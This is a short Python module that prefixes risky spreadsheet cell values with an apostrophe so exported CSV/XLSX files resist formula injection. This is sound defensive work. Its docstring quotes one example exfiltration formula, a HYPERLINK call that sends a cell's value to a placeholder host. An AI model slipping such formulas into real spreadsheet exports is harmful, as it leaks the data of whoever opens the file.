"""Cells of the spreadsheets orderhub writes (CSV and XLSX), safe to open in Excel or WPS.

A shop name, a receiver or a reject reason comes from platform data, and a value such as
``=HYPERLINK("http://x/?"&A1, "点击")`` would run as a live formula in the finance team's Excel
(CSV injection).  Following OWASP's advice, text that starts with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return gets a leading ``'``, which spreadsheets read as "this is text".
Numbers stay numbers: ``-12.50`` (a Decimal, or text that is just a number) is left alone.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def safe_cell(value: Any) -> Any:
    """``value`` as a cell: text that a spreadsheet would run as a formula is prefixed with
    ``'``; everything else (numbers, dates, plain text) is returned unchanged."""
    if isinstance(value, str) and len(value) > 1 and value.startswith(_TRIGGERS) \
            and not _NUMBER.match(value):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """:func:`safe_cell` over a row."""
    return [safe_cell(v) for v in values]
